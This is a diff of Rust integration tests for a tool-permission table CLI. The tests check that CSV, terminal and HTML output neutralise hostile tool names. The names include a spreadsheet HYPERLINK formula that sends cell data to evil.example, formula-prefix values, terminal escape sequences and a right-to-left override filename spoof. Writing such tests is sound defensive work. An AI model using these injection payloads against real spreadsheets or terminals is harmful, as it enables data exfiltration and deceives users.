@@ -514,6 +514,106 @@ fn narrow_tables_are_grids() {
         .ends_with("conditions\n  ~1    needs scope `s`\n"));
 }
 
+/// Tool names a hostile server could list: spreadsheet formulas, and terminal controls.
+const HOSTILE_TOOLS: &str = r#"{"tools":[
+  {"name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
+  {"name":"+1+1"}, {"name":"-2+3"}, {"name":"@SUM(1,2)"}, {"name":"\tx"}, {"name":"\rx"},
+  {"name":"fs.read"},
+  {"name":"\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\\u001b[2J"},
+  {"name":"tool\u009b31m\u202egpj.exe\u0007"}
+]}"#;
+
+/// `toolgate table` of a policy allowing `user` every tool of [`HOSTILE_TOOLS`], on a
+/// terminal `columns` wide.
+fn hostile_table(scratch: &Scratch, format: &str, columns: &str) -> String {
+    let policy = scratch.file("p.policy", "role user\nallow user to call tools \"*\"\n");
+    let tools = scratch.file("tools.json", HOSTILE_TOOLS);
+    let output = Command::new(env!("CARGO_BIN_EXE_toolgate"))
+        .args(["table", &policy, "--tools", &tools, "--format", format])
+        .env("COLUMNS", columns)
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{output:?}");
+    String::from_utf8(output.stdout).unwrap()
+}
+
+#[test]
+fn csv_cells_are_never_formulas() {
+    let scratch = Scratch::new("matrix-csv-injection");
+    let csv = hostile_table(&scratch, "csv", "100");
+    let names: Vec<String> = serde_json::from_str::<Value>(HOSTILE_TOOLS).unwrap()["tools"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|tool| tool["name"].as_str().unwrap().to_string())
+        .collect();
+    // Records, not lines: the name with a carriage return is one quoted cell.
+    let body = csv
+        .strip_prefix("role,tool,action,cell,condition\n")
+        .unwrap();
+    let mut records = Vec::new();
+    let mut record = String::new();
+    let mut quoted = false;
+    for character in body.chars() {
+        if character == '"' {
+            quoted = !quoted;
+        }
+        if character == '\n' && !quoted {
+            records.push(parse_csv_line(&std::mem::take(&mut record)));
+        } else {
+            record.push(character);
+        }
+    }
+    assert_eq!(records.len(), 2 * 2 * names.len());
+    for (index, fields) in records.iter().enumerate() {
+        assert_eq!(fields.len(), 5, "{fields:?}");
+        let name = &names[index / 2 % names.len()];
+        let formula = name.starts_with(['=', '+', '-', '@', '\t', '\r']);
+        let expected = if formula {
+            format!("'{name}")
+        } else {
+            name.clone()
+        };
+        assert_eq!(fields[1], expected);
+        for field in fields {
+            assert!(
+                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet runs: {field:?}"
+            );
+        }
+    }
+    let link = "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"";
+    assert!(
+        csv.contains(&format!("anyone,{link},call,deny,\n")),
+        "{csv}"
+    );
+}
+
+#[test]
+fn control_characters_in_names_are_shown_as_symbols() {
+    let scratch = Scratch::new("matrix-controls");
+    // 100 columns: one block per role; 400: the grid; and the HTML page.
+    for (format, columns) in [("human", "100"), ("human", "400"), ("html", "100")] {
+        let text = hostile_table(&scratch, format, columns);
+        match (format, columns) {
+            ("human", "100") => assert!(text.contains("\nuser\n"), "blocks: {text}"),
+            ("human", _) => assert!(text.contains("\nrole "), "a grid: {text}"),
+            _ => assert!(text.starts_with("<!DOCTYPE html>")),
+        }
+        for raw in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\r'] {
+            assert!(!text.contains(raw), "{format}: raw {raw:?} in\n{text}");
+        }
+        assert!(
+            text.contains("\u{241b}]8;;http://evil.example\u{241b}\\link"),
+            "{text}"
+        );
+        assert!(
+            text.contains("tool\u{fffd}31m\u{fffd}gpj.exe\u{2407}"),
+            "{text}"
+        );
+    }
+}
+
 #[test]
 fn errors_exit_with_status_two() {
     let scratch = Scratch::new("matrix-errors");
